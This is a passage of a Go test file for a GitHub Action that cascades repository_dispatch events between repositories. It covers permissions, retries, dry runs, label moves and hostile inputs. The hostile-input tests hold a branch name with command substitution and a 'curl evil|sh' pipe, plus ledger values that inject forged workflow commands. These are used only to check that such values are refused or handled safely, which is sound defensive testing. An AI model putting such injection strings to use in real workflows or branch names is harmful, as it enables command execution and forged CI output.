		st := push(t, w)
		st.config = leafConfig("acme/elemental-os") + "    - {repo: acme/elemental-iso, when: {branch: main}}\n"
		w.ok(t, st)
		for _, repo := range []string{"acme/elemental-os", "acme/elemental-iso"} {
			if n := len(w.gh.Dispatches(repo)); n != 1 {
				t.Errorf("%s: %d dispatches, want 1", repo, n)
			}
		}
	})
	for _, c := range []struct {
		name     string
		installs map[int64]map[string]string
		want     string
	}{
		{"not installed on the target", map[int64]map[string]string{5000001: {"acme/elemental": "write"}},
			"GitHub App 77 cannot dispatch to acme/elemental-os: it is not installed on that repository"},
		{"installation with contents: read", map[int64]map[string]string{5000002: {"acme/elemental-os": "read"}},
			"GitHub App 77 cannot dispatch to acme/elemental-os: its installation grants contents: read, and repository_dispatch needs contents: write"},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := setup(t, c.installs)
			res := w.run(t, push(t, w))
			if res.code != ExitFailure || !strings.Contains(res.stdout, c.want) {
				t.Errorf("exit %d, want %q:\n%s", res.code, c.want, res.stdout)
			}
			if len(w.gh.Dispatches("acme/elemental-os")) != 0 {
				t.Error("dispatched")
			}
		})
	}
	t.Run("wrong key", func(t *testing.T) {
		w := setup(t, map[int64]map[string]string{5000001: {"acme/elemental-os": "write"}})
		other, _ := rsa.GenerateKey(rand.Reader, 2048)
		s := push(t, w)
		s.inputs = map[string]string{"app-id": "77", "app-private-key": string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(other)}))}
		res := w.run(t, s)
		if res.code != ExitFailure || !strings.Contains(res.stdout, "check app-id and app-private-key") {
			t.Errorf("exit %d:\n%s", res.code, res.stdout)
		}
	})
	t.Run("half an App", func(t *testing.T) {
		w := setup(t, nil)
		for _, in := range []map[string]string{{"app-id": "77"}, {"app-private-key": keyPEM}, {"app-id": "seventy", "app-private-key": keyPEM}} {
			s := push(t, w)
			s.inputs = in
			res := w.run(t, s)
			if res.code != ExitUsage || !strings.Contains(res.stdout, "::error::input app-") {
				t.Errorf("inputs %v: exit %d:\n%s", in["app-id"], res.code, res.stdout)
			}
			for _, l := range strings.Split(res.stdout, "\n") {
				if strings.Contains(l, "PRIVATE KEY") && !strings.HasPrefix(l, "::add-mask::") {
					t.Errorf("the key is printed: %q", l)
				}
			}
		}
	})
}

// deliveryConfig makes a push to production dispatch three branches.
const deliveryConfig = s3Head + `cascade:
  branches: {production: [staging, snapshot, hotfix]}
`

// TestCascadeDelivery: dispatches go out one at a time, a second apart,
// retried on 5xx and rate limits; a target still failing fails the step,
// the others are still sent, and error and outputs name it.
func TestCascadeDelivery(t *testing.T) {
	prod := func(t *testing.T) step {
		return step{repo: s3Repo, ref: "refs/heads/production", sha: sha4, event: "push",
			payload: fixture(t, "push.production.json"), config: deliveryConfig}
	}
	posts := func(w *cascadeWorld) []ghsim.Request {
		var out []ghsim.Request
		for _, r := range w.gh.Requests() {
			if r.Method == "POST" {
				out = append(out, r)
			}
		}
		return out
	}
	sec := func(ns ...int) []time.Duration {
		out := make([]time.Duration, len(ns))
		for i, n := range ns {
			out[i] = time.Duration(n) * time.Second
		}
		return out
	}

	t.Run("paced", func(t *testing.T) {
		w := newCascadeWorld(t, s3Repo)
		w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
		res := w.ok(t, prod(t))
		if !reflect.DeepEqual(res.sleeps, sec(1, 1)) {
			t.Errorf("sleeps = %v, want [1s 1s]", res.sleeps)
		}
		ps := posts(w)
		if len(ps) != 3 {
			t.Fatalf("%d POSTs", len(ps))
		}
		for i := 1; i < len(ps); i++ {
			if gap := ps[i].Time.Sub(ps[i-1].Time); gap < time.Second {
				t.Errorf("POST %d came %v after the previous one", i, gap)
			}
		}
		var branches []string
		for _, d := range w.gh.Dispatches(s3Repo) {
			branches = append(branches, envelope(t, d).Branch)
		}
		if strings.Join(branches, ",") != "hotfix,snapshot,staging" || res.outputs["dispatched"] != "3" {
			t.Errorf("dispatched %v (%s)", branches, res.outputs["dispatched"])
		}
	})
	t.Run("retried on 5xx and rate limits", func(t *testing.T) {
		w := newCascadeWorld(t, s3Repo)
		w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
		w.gh.Inject(ghsim.Fault{Method: "POST", Path: "/repos/acme/package-storage/dispatches", Status: 502})
		w.gh.Inject(ghsim.Fault{Method: "POST", Path: "/repos/acme/package-storage/dispatches", Status: 403,
			Message: "API rate limit exceeded for installation ID 5000001.",
			Header:  map[string]string{"X-Ratelimit-Remaining": "0", "X-Ratelimit-Reset": fmt.Sprint(now.Add(31 * time.Second).Unix())}})
		w.gh.Inject(ghsim.Fault{Method: "POST", Path: "/repos/acme/package-storage/dispatches", Status: 429, Header: map[string]string{"Retry-After": "7"}})
		res := w.ok(t, prod(t))
		// The first dispatch meets all three: 502, 1 s; the rate limit,
		// until the reset (30 s from then) + 1 s; 429, its retry-after. Then
		// the pace before each of the others.
		if !reflect.DeepEqual(res.sleeps, sec(1, 31, 7, 1, 1)) {
			t.Errorf("sleeps = %v", res.sleeps)
		}
		if n := len(w.gh.Dispatches(s3Repo)); n != 3 || res.outputs["dispatched"] != "3" {
			t.Errorf("%d dispatches", n)
		}
	})
	t.Run("a target still failing", func(t *testing.T) {
		w := newCascadeWorld(t, s3Repo)
		w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
		// hotfix goes first: every attempt fails
		w.gh.Inject(ghsim.Fault{Method: "POST", Path: "/repos/acme/package-storage/dispatches", Status: 502, Times: gh.DefaultMaxRetries + 1})
		res := w.run(t, prod(t))
		if res.code != ExitFailure {
			t.Fatalf("exit %d:\n%s", res.code, res.stdout)
		}
		if !reflect.DeepEqual(res.sleeps, sec(1, 2, 4, 8, 16, 1, 1)) {
			t.Errorf("sleeps = %v", res.sleeps)
		}
		var branches []string
		for _, d := range w.gh.Dispatches(s3Repo) {
			branches = append(branches, envelope(t, d).Branch)
		}
		if strings.Join(branches, ",") != "snapshot,staging" {
			t.Errorf("dispatched %v, want the two others", branches)
		}
		if !strings.Contains(res.stdout, "::error::cascade: 1 of 3 targets not reached: acme/package-storage@hotfix") ||
			!strings.Contains(res.stdout, "502") {
			t.Errorf("the error does not name the target:\n%s", res.stdout)
		}
		if res.outputs["dispatched"] != "2" || res.outputs["undelivered"] != `[{"repo":"acme/package-storage","branch":"hotfix"}]` {
			t.Errorf("outputs: %v", res.outputs)
		}
		if !strings.Contains(res.summary, "not reached") {
			t.Errorf("summary:\n%s", res.summary)
		}
	})
}

// TestCascadeDryRun prints the plan (a mermaid graph in the summary) and
// sends nothing.
func TestCascadeDryRun(t *testing.T) {
	w := newCascadeWorld(t, s3Repo)
	w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
	res := w.ok(t, step{repo: s3Repo, ref: "refs/heads/production", sha: sha4, event: "push",
		payload: fixture(t, "push.production.json"), config: s3Config, inputs: map[string]string{"dry-run": "true"}})
	if n := len(w.gh.Dispatches(s3Repo)); n != 0 {
		t.Fatalf("a dry run sent %d dispatches", n)
	}
	for _, r := range w.gh.Requests() {
		if r.Method != "GET" {
			t.Errorf("a dry run made %s %s", r.Method, r.Path)
		}
	}
	wantTargets(t, res, cascade.Target{Repo: s3Repo, Branch: "staging"})
	if res.outputs["dispatched"] != "0" || res.outputs["branch"] != "production" {
		t.Errorf("outputs: %v", res.outputs)
	}
	for _, want := range []string{"(dry run)", "```mermaid\nflowchart LR\n", "acme/package-storage@staging", "would dispatch", "ladder-cascade"} {
		if !strings.Contains(res.summary, want) {
			t.Errorf("summary lacks %q:\n%s", want, res.summary)
		}
	}
}

// TestCascadeHostileBranch: a branch name from a dispatch payload is data. A
// valid one full of shell syntax is carried as it is, in outputs and in the
// next payload; one that could forge an output or a command is refused.
func TestCascadeHostileBranch(t *testing.T) {
	const hostile = "release/$(id)`whoami`;curl${IFS}evil|sh&&echo>pwn"
	w := newCascadeWorld(t, s3Repo)
	w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
	cfg := strings.Replace(s3Config, "staging: [snapshot]}", "staging: [snapshot], '"+hostile+"': [snapshot]}", 1)
	res := w.ok(t, step{repo: s3Repo, ref: "refs/heads/snapshot", sha: shaB, event: "repository_dispatch",
		payload: fixture(t, "repository_dispatch.hostile-branch.json"), config: cfg})
	if res.outputs["branch"] != hostile || len(res.outputs) != 6 {
		t.Errorf("outputs: %q", res.outputs)
	}
	chain := chainOf(t, res.outputs["chain"])
	if len(chain) != 2 || chain[1].Branch != hostile {
		t.Errorf("chain = %v", chain)
	}
	ds := w.gh.Dispatches(s3Repo)
	if len(ds) != 1 || envelope(t, ds[0]).Chain[1].Branch != hostile || envelope(t, ds[0]).Branch != "snapshot" {
		t.Fatalf("dispatches: %+v", ds)
	}
	if strings.Contains(res.summary, "`whoami`") {
		t.Errorf("the summary renders the branch name as markdown:\n%s", res.summary)
	}

	res = w.run(t, step{repo: s3Repo, ref: "refs/heads/snapshot", sha: shaB, event: "repository_dispatch",
		payload: fixture(t, "repository_dispatch.newline-branch.json"), config: s3Config})
	if res.code != ExitFailure || !strings.Contains(res.stdout, "client_payload.ladder.branch") {
		t.Errorf("exit %d:\n%s", res.code, res.stdout)
	}
	if len(res.outputs) != 0 {
		t.Errorf("outputs set from a refused payload: %q", res.outputs)
	}
	for _, l := range strings.Split(res.stdout, "\n") {
		if strings.HasPrefix(l, "chain=") || l == "::add-mask::x" {
			t.Errorf("the payload's text started a line of its own: %q", l)
		}
	}
	if len(w.gh.Dispatches(s3Repo)) != 1 {
		t.Error("dispatched from a refused payload")
	}
}

// TestCascadeEvents: the receiving side, driven by payloads shaped as GitHub
// delivers them (testdata/events).
func TestCascadeEvents(t *testing.T) {
	for _, c := range []struct {
		fixture, event, ref string
		inputs              map[string]string
		targets             []cascade.Target
		branch              string
		summary             string // in the summary
		fail                string // in the error, when the run fails
	}{
		{fixture: "push.tag.json", event: "push", ref: "refs/tags/v1.0.0", summary: "only a branch push does"},
		{fixture: "push.branch-deleted.json", event: "push", ref: "refs/heads/staging", summary: "was deleted"},
		{fixture: "repository_dispatch.foreign.json", event: "repository_dispatch", ref: "refs/heads/snapshot", summary: "not a cascade from ladder"},
		{fixture: "workflow_dispatch.staging.json", event: "workflow_dispatch", ref: "refs/heads/staging",
			targets: []cascade.Target{{Repo: s3Repo, Branch: "snapshot"}}, branch: "staging"},
		{fixture: "schedule.json", event: "schedule", ref: "refs/heads/snapshot", fail: "set the branch input"},
		{fixture: "schedule.json", event: "schedule", ref: "refs/heads/snapshot", inputs: map[string]string{"branch": "production"},
			targets: []cascade.Target{{Repo: s3Repo, Branch: "staging"}}, branch: "production"},
		{fixture: "push.tag.json", event: "push", ref: "refs/tags/v1.0.0", inputs: map[string]string{"branch": "staging"},
			targets: []cascade.Target{{Repo: s3Repo, Branch: "snapshot"}}, branch: "staging"},
		{fixture: "push.production.json", event: "push", ref: "refs/heads/production", inputs: map[string]string{"branch": "bad..name"},
			fail: `input branch: invalid branch name "bad..name"`},
	} {
		t.Run(c.fixture+"/"+fmt.Sprint(c.inputs), func(t *testing.T) {
			w := newCascadeWorld(t, s3Repo)
			w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
			res := w.run(t, step{repo: s3Repo, ref: c.ref, sha: shaB, event: c.event, payload: fixture(t, c.fixture), config: s3Config, inputs: c.inputs})
			if c.fail != "" {
				code := ExitFailure
				if strings.HasPrefix(c.fail, "input ") {
					code = ExitUsage // a malformed input
				}
				if res.code != code || !strings.Contains(res.stdout, c.fail) {
					t.Errorf("exit %d, want %q:\n%s", res.code, c.fail, res.stdout)
				}
				return
			}
			if res.code != 0 {
				t.Fatalf("exit %d:\n%s", res.code, res.stdout)
			}
			wantTargets(t, res, c.targets...)
			if res.outputs["branch"] != c.branch {
				t.Errorf("branch = %q, want %q", res.outputs["branch"], c.branch)
			}
			if !strings.Contains(res.summary, c.summary) {
				t.Errorf("summary lacks %q:\n%s", c.summary, res.summary)
			}
			if n := len(w.gh.Dispatches(s3Repo)); n != len(c.targets) {
				t.Errorf("%d dispatches", n)
			}
		})
	}
}

// TestCascadeCorrelationID: derived from the run, so the same run attempt
// sends the same id (a duplicate a receiver recognises) and a re-run a new one.
func TestCascadeCorrelationID(t *testing.T) {
	w := newCascadeWorld(t, s3Repo)
	w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
	run := func(env map[string]string) string {
		res := w.ok(t, step{repo: s3Repo, ref: "refs/heads/production", sha: sha4, event: "push",
			payload: fixture(t, "push.production.json"), config: s3Config, env: env})
		id := res.outputs["correlation-id"]
		ds := w.gh.Dispatches(s3Repo)
		if got := envelope(t, ds[len(ds)-1]).CorrelationID; got != id {
			t.Errorf("payload carries %q, output says %q", got, id)
		}
		return id
	}
	first, again := run(nil), run(nil)
	rerun := run(map[string]string{"GITHUB_RUN_ATTEMPT": "2"})
	if first != again {
		t.Errorf("the same run attempt sent %q then %q", first, again)
	}
	if rerun == first || !strings.HasPrefix(rerun, "run-7100-2-") {
		t.Errorf("a re-run sent %q (first %q)", rerun, first)
	}
	l1, l2 := run(map[string]string{"GITHUB_RUN_ID": ""}), run(map[string]string{"GITHUB_RUN_ID": ""})
	if !strings.HasPrefix(l1, "local-") || l1 == l2 {
		t.Errorf("outside a runner: %q, %q", l1, l2)
	}
}

// s6Cascade is story S6's product repository: a move of current syncs the
// mirror; a publish of testing rebuilds the ISO.
const s6Cascade = `version: 1
product: elemental
registry: ghcr.io/acme/elemental
ledger: file:ledger.json
components:
  cli: {repo: rancher/elemental-cli}
channels:
  testing: {track: {branch: main}}
labels:
  current: {from: testing}
  release: {from: current}
cascade:
  repos:
    - {repo: acme/mirror-sync, when: {label: current}}
    - {repo: acme/elemental-iso, when: {channel: testing}}
    - {repo: acme/elemental-os, when: {branch: main}}
`

// s6Ledger is a ledger where current moved to 1.3.0, then to 1.4.0.
func s6Ledger(t *testing.T) []byte {
	t.Helper()
	doc := ledger.NewDocument("elemental")
	for i, v := range []string{"1.3.0", "1.4.0"} {
		b := ledger.Bundle{Version: v, Digest: "sha256:" + strings.Repeat(string(rune('c'+i)), 64),
			LockDigest: "sha256:" + strings.Repeat(string(rune('1'+i)), 64), Channel: "testing", Created: now}
		if err := doc.AddBundle(b); err != nil {
			t.Fatal(err)
		}
		for _, stream := range []string{ledger.ChannelStream("testing"), ledger.LabelStream("current")} {
			if err := doc.Append(stream, ledger.Entry{Version: v, Digest: b.Digest, At: now.Add(time.Duration(i) * time.Hour)}); err != nil {
				t.Fatal(err)
			}
		}
	}
	return doc.Marshal()
}

// s6World is story S6's setting: the product, mirror, ISO and OS
// repositories, a release bot's token that writes to all of them, and a
// release commit on the product's main.
type s6World struct {
	*cascadeWorld
	main1 string
}

const releaseBot = "ghp_releasebot000000000000000000000000"

const s6Product, s6Mirror, s6ISO, s6OS = "acme/elemental", "acme/mirror-sync", "acme/elemental-iso", "acme/elemental-os"

func newS6World(t *testing.T) *s6World {
	t.Helper()
	w := newCascadeWorld(t, s6Product, s6Mirror, s6ISO, s6OS)
	w.gh.AddToken(releaseBot, map[string]string{"*": "write"})
	return &s6World{cascadeWorld: w, main1: w.gh.Commit(s6Product, "main", "release 1.4.0")}
}

// moved is a manual run (workflow_dispatch) of S6's cascade on main1 with
// inputs, the ledger file holding ledgerJSON.
func (w *s6World) moved(t *testing.T, inputs map[string]string, ledgerJSON []byte) step {
	return step{repo: s6Product, ref: "refs/heads/main", sha: w.main1, event: "workflow_dispatch",
		payload: mustJSON(t, map[string]any{"ref": "refs/heads/main", "repository": map[string]any{"full_name": s6Product}}),
		config:  s6Cascade, inputs: inputs, files: map[string][]byte{"ledger.json": ledgerJSON}}
}

// TestCascadeLabelMove is story S6's mirror sync: cascade-branches with the
// label input dispatches the cascade.repos entries when that label, their
// payload naming the bundle the label holds (from the ledger), and nothing
// else; a channel input does not dispatch label entries.
func TestCascadeLabelMove(t *testing.T) {
	w := newS6World(t)
	ledgerJSON := s6Ledger(t)
	moved := func(inputs map[string]string) step { return w.moved(t, inputs, ledgerJSON) }
	counts := func() [3]int {
		return [3]int{len(w.gh.Dispatches(s6Mirror)), len(w.gh.Dispatches(s6ISO)), len(w.gh.Dispatches(s6OS))}
	}

	t.Run("a move of current dispatches the mirror, naming the bundle current holds", func(t *testing.T) {
		before := counts()
		res := w.ok(t, moved(map[string]string{"token": releaseBot, "label": "current"}))
		wantTargets(t, res, cascade.Target{Repo: s6Mirror})
		if got := counts(); got != [3]int{before[0] + 1, before[1], before[2]} {
			t.Fatalf("dispatches (mirror, iso, os) %v -> %v, want one to the mirror only", before, got)
		}
		ds := w.gh.Dispatches(s6Mirror)
		d := ds[len(ds)-1]
		if d.EventType != "ladder-cascade" {
			t.Errorf("event type %q", d.EventType)
		}
		e := envelope(t, d)
		want := cascade.Bundle{Version: "1.4.0", Digest: "sha256:" + strings.Repeat("d", 64), LockDigest: "sha256:" + strings.Repeat("2", 64)}
		if e.Bundle == nil || *e.Bundle != want {
			t.Errorf("bundle = %+v, want %+v", e.Bundle, want)
		}
		if e.Source != (cascade.Source{Repo: s6Product, Ref: "refs/heads/main", SHA: w.main1, Label: "current"}) {
			t.Errorf("source = %+v", e.Source)
		}
		if !strings.Contains(res.summary, "label current moved to 1.4.0") {
			t.Errorf("summary does not show the move:\n%s", res.summary)
		}
	})

	t.Run("a channel input does not dispatch label entries, and names the bundle the channel holds", func(t *testing.T) {
		before := counts()
		res := w.ok(t, moved(map[string]string{"token": releaseBot, "channel": "testing"}))
		wantTargets(t, res, cascade.Target{Repo: s6ISO})
		if got := counts(); got != [3]int{before[0], before[1] + 1, before[2]} {
			t.Fatalf("dispatches (mirror, iso, os) %v -> %v, want one to the ISO only", before, got)
		}
		e := envelope(t, w.gh.Dispatches(s6ISO)[0])
		if e.Source.Label != "" || e.Source.Channel != "testing" {
			t.Errorf("a channel publish's envelope names a label move: %+v", e.Source)
		}
		// SPEC section 4: the payload names the version, digest and lock digest
		want := cascade.Bundle{Version: "1.4.0", Digest: "sha256:" + strings.Repeat("d", 64), LockDigest: "sha256:" + strings.Repeat("2", 64)}
		if e.Bundle == nil || *e.Bundle != want {
			t.Errorf("bundle = %+v, want %+v", e.Bundle, want)
		}
		if !strings.Contains(res.summary, "channel testing published 1.4.0") {
			t.Errorf("summary does not show the publish:\n%s", res.summary)
		}
	})

	t.Run("a label with no entry dispatches nothing", func(t *testing.T) {
		before := counts()
		f := map[string][]byte{"ledger.json": func() []byte {
			doc, err := ledger.Parse(s6Ledger(t))
			if err != nil {
				t.Fatal(err)
			}
			if err := doc.Append(ledger.LabelStream("release"), ledger.Entry{Version: "1.3.0", Digest: "sha256:" + strings.Repeat("c", 64), At: now}); err != nil {
				t.Fatal(err)
			}
			return doc.Marshal()
		}()}
		s := moved(map[string]string{"token": releaseBot, "label": "release"})
		s.files = f
		res := w.ok(t, s)
		wantTargets(t, res)
		if got := counts(); got != before {
			t.Errorf("dispatches (mirror, iso, os) %v -> %v, want none", before, got)
		}
	})

	for _, tt := range []struct {
		name   string
		inputs map[string]string
		code   int
		want   string
	}{
		// a name the config does not hold is found when the run reads it:
		// exit 1, as for an unknown channel, with the closest name suggested
		{"an unknown label is an error naming the labels", map[string]string{"token": releaseBot, "label": "curent"}, ExitFailure,
			`input label: "curent" is not a label of`},
		{"the labels are named", map[string]string{"token": releaseBot, "label": "curent"}, ExitFailure, `(labels: current, release) (did you mean "current"?)`},
		{"channel and label together are a usage error", map[string]string{"token": releaseBot, "label": "current", "channel": "testing"}, ExitUsage,
			`inputs channel ("testing") and label ("current") are both set`},
		{"a label that never moved has nothing to announce", map[string]string{"token": releaseBot, "label": "release"}, ExitFailure,
			"input label: release points at no bundle yet (the ledger has no move of it)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := counts()
			res := w.run(t, moved(tt.inputs))
			if res.code != tt.code || !strings.Contains(res.stdout, tt.want) {
				t.Errorf("exit %d, want %d with %q:\n%s", res.code, tt.code, tt.want, res.stdout)
			}
			if got := counts(); got != before {
				t.Errorf("dispatches (mirror, iso, os) %v -> %v, want none", before, got)
			}
		})
	}

	t.Run("ledger: none has no label to read", func(t *testing.T) {
		s := moved(map[string]string{"token": releaseBot, "label": "current"})
		s.config = strings.Replace(s6Cascade, "ledger: file:ledger.json", "ledger: none", 1)
		res := w.run(t, s)
		if res.code != ExitFailure || !strings.Contains(res.stdout, "ledger: none has none to read what it holds") {
			t.Errorf("exit %d:\n%s", res.code, res.stdout)
		}
	})
}

// TestCascadeHostileLedgerBundle: the ledger file is text anyone with write
// access to it can edit. A channel input's dispatch names the bundle the
// ledger says the channel holds (client_payload.ladder.bundle), which a
// receiving workflow reads as a version and digests. A version holding line
// breaks and workflow commands, or a lock digest that is no digest, is
// refused when the ledger is read, with the field named: nothing is
// dispatched, and nothing of it reaches a workflow command or an output.
func TestCascadeHostileLedgerBundle(t *testing.T) {
	w := newS6World(t)
	for _, tc := range []struct{ name, from, to, want string }{
		{"version", `"1.4.0"`, `"1.4.0\n::error::forged-version\nx=y"`, "bundles[1].version"},
		{"lock digest", `"sha256:` + strings.Repeat("2", 64) + `"`, `"sha256:2\n::warning::forged-lock\nchain=forged"`, "bundles[1].lockDigest"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			data := bytes.ReplaceAll(s6Ledger(t), []byte(tc.from), []byte(tc.to))
			if !bytes.Contains(data, []byte("forged")) {
				t.Fatal("the hostile ledger was not written: the test proves nothing")
			}
			before := len(w.gh.Dispatches(s6ISO))
			res := w.run(t, w.moved(t, map[string]string{"token": releaseBot, "channel": "testing"}, data))
			if res.code != ExitFailure || !strings.Contains(res.stdout, tc.want) {
				t.Errorf("exit %d, want %d naming %s:\n%s", res.code, ExitFailure, tc.want, res.stdout)
			}
			if n := len(w.gh.Dispatches(s6ISO)); n != before {
				t.Errorf("%d dispatches sent naming the hostile bundle", n-before)
			}
			for _, l := range statusRunnerProcessed(res.stdout) {
				// the token's mask and the run's own error (its text escaped)
				// are the only commands
				if !strings.HasPrefix(l, "::add-mask::") && !strings.HasPrefix(l, "::error::") || strings.HasPrefix(l, "::error::forged") {
					t.Errorf("the runner would process %q", l)
				}
			}
			for k, v := range res.outputs {
				if strings.Contains(k, "forged") || strings.Contains(v, "forged") || k == "x" {
					t.Errorf("output %s=%q", k, v)
				}
			}
		})
	}
}
